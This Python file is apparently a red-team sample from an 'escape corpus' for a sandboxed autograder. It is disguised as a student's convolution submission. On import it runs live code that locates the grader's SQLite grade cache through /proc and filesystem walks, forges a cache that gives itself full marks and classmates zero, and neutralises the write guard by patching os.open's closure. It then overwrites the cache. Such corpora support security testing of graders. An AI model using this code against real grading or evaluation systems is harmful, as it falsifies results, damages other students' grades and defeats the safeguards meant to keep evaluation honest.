"""Escape corpus, attack 5: finding OUT's grade cache and overwriting it.

What it attacks: the gradebook is rebuilt at the end of a run from
``OUT/.cnngrade/cache.sqlite``, and a final cached result is never graded again. The
submission finds the cache three ways (the grader's open files ``/proc/PPID/fd``, every
process's ``/proc/*/cwd``, a bounded walk of /tmp, /var/tmp, /home) and the class folder
(the folder holding a byte-identical copy of itself). It builds a forged cache in its run
folder: the real schema and key columns (exercise, versions copied from a row already
there, content hashes computed from the classmates' files), itself 20/20, everyone else
0/20 and final, so classmates graded later are "reused" at 0. It then disarms the write
guard (the run-folder cell of the guard's ``check_path``, reached through
``os.open.__closure__``) and renames the forgery over the cache, deleting its -wal/-shm.

A successful attack: grades.json shows this submission 20/20 and its neighbours 0/20, or
the cache file differs from what the grader wrote (extra rows, changed scores).
Contained: OUT is not in the sandbox's view; the grades are the honest ones.
"""
import hashlib
import json
import os
import sqlite3
import time

REPORT = {}
ME = os.path.splitext(os.path.basename(__file__))[0]


def _walk(predicate, roots, seconds, max_entries=40000):
    end, seen, queue, hits, count = time.monotonic() + seconds, set(), [(r, 0) for r in roots], [], 0
    while queue and time.monotonic() < end and count < max_entries:
        top, depth = queue.pop(0)
        if top in seen or top.startswith(("/proc", "/sys", "/dev")):
            continue
        seen.add(top)
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for e in entries:
            count += 1
            try:
                if predicate(e):
                    hits.append(e.path)
                if e.is_dir(follow_symlinks=False) and depth < 5:
                    queue.append((e.path, depth + 1))
            except OSError:
                pass
    return hits


def _ours(path):
    """Only the cache of this class, never someone else's: the folder above OUT holds a
    class folder with a byte-identical copy of this file (not the run folder's own copy),
    and every submission the cache knows is an entry of that class folder."""
    mine, me = open(__file__, "rb").read(), os.path.basename(__file__)
    here = os.path.dirname(os.path.realpath(__file__))
    top = os.path.dirname(os.path.dirname(os.path.dirname(path)))
    try:
        for e in os.scandir(top):
            cand = os.path.join(e.path, me)
            if (e.is_dir() and os.path.realpath(e.path) != here and os.path.isfile(cand)
                    and open(cand, "rb").read() == mine):
                names = {n[:-3] if n.endswith(".py") else n for n in os.listdir(e.path)}
                con = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=3)
                try:
                    known = {r[0] for r in con.execute("SELECT submission FROM results")}
                finally:
                    con.close()
                if known <= names:
                    return True
    except (OSError, sqlite3.Error):
        pass
    return False


def _is_cache(path):
    return path.endswith("/.cnngrade/cache.sqlite") and os.path.isfile(path) and _ours(path)


def _find_cache():
    ppid = os.getppid()
    try:  # 1. the grader holds it open
        for fd in os.listdir(f"/proc/{ppid}/fd"):
            link = os.readlink(f"/proc/{ppid}/fd/{fd}")
            if _is_cache(link):
                return link, "parent's fds"
    except OSError:
        pass
    cwds = []
    for pid in os.listdir("/proc"):  # 2. every process's working folder
        if pid.isdigit():
            try:
                cwds.append(os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                pass
    for cwd in cwds:
        for base in (cwd, os.path.dirname(cwd)):
            try:
                for e in os.scandir(base):
                    cand = os.path.join(e.path, ".cnngrade", "cache.sqlite")
                    if e.is_dir() and _is_cache(cand):
                        return cand, "/proc/*/cwd"
            except OSError:
                pass
    hits = _walk(lambda e: e.name == "cache.sqlite" and _is_cache(e.path),  # 3. walk
                 ["/tmp", "/var/tmp", "/home"], 2.0)
    return (hits[0], "walk") if hits else (None, None)


def _find_class(near):
    mine = open(__file__, "rb").read()
    me = os.path.basename(__file__)
    here = os.path.dirname(os.path.realpath(__file__))

    def copy_of_me(e):
        return (e.name == me and os.path.dirname(os.path.realpath(e.path)) != here
                and e.is_file() and open(e.path, "rb").read() == mine)

    hits = _walk(copy_of_me, near + ["/tmp", "/home"], 2.0)
    return os.path.dirname(hits[0]) if hits else None


def _students(klass):
    out = {}
    for e in os.scandir(klass):
        if e.is_file() and e.name.endswith(".py") and not e.name.startswith("."):
            out[e.name[:-3]] = e.path
        elif e.is_dir() and os.path.isfile(os.path.join(e.path, "solution.py")):
            out[e.name] = os.path.join(e.path, "solution.py")
    return out


def _disarm_writes():
    for cell in getattr(os.open, "__closure__", None) or ():
        fn = cell.cell_contents
        code = getattr(fn, "__code__", None)
        if code is not None and "workdir" in code.co_freevars and fn.__closure__:
            fn.__closure__[code.co_freevars.index("workdir")].cell_contents = ""
            return True
    return False


def _forge(cache, klass):
    src = sqlite3.connect(f"file:{cache}?mode=ro", uri=True, timeout=3)
    schema = src.execute("SELECT sql FROM sqlite_master WHERE name='results'").fetchone()[0]
    template = src.execute("SELECT exercise, exercise_version, grader_version, result "
                           "FROM results WHERE final=1 LIMIT 1").fetchone()
    src.close()
    exercise, version, grader_version, result = template
    here = os.path.dirname(os.path.abspath(__file__))
    forged = os.path.join(here, "forged.sqlite")
    con = sqlite3.connect(forged)
    con.execute(schema)
    for name, path in _students(klass).items():
        digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
        r = json.loads(result)
        full = name == ME
        r.update(submission=name, score=r["max_score"] if full else 0.0,
                 status="passed" if full else "failed", verdict="ok")
        for t in r.get("tests", []):
            t["score"] = t["max_score"] if full else 0.0
            t["status"] = "passed" if full else "failed"
        con.execute("INSERT INTO results VALUES (?, ?, ?, ?, ?, 1, ?, ?)",
                    (name, digest, exercise, version, grader_version, time.time(), json.dumps(r)))
    con.commit()
    con.close()
    return forged


def _attack():
    cache, how = _find_cache()
    REPORT["cache"] = (cache, how)
    if not cache:
        return
    out = os.path.dirname(os.path.dirname(cache))
    klass = _find_class([os.path.dirname(out)])
    REPORT["class"] = klass
    if not klass:
        return
    forged = _forge(cache, klass)
    REPORT["disarmed"] = _disarm_writes()
    try:
        os.replace(forged, cache)
    except OSError:  # another filesystem: copy the bytes over instead
        with open(forged, "rb") as a, open(cache + ".new", "wb") as b:
            b.write(a.read())
        os.replace(cache + ".new", cache)
    for extra in ("-wal", "-shm"):
        try:
            os.remove(cache + extra)
        except OSError:
            pass
    REPORT["overwritten"] = True


try:
    _attack()
except BaseException as exc:
    REPORT["error"] = repr(exc)
print("cnngrade-escape report:", REPORT)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    return _honest_conv2d(x, w, b, stride, padding)
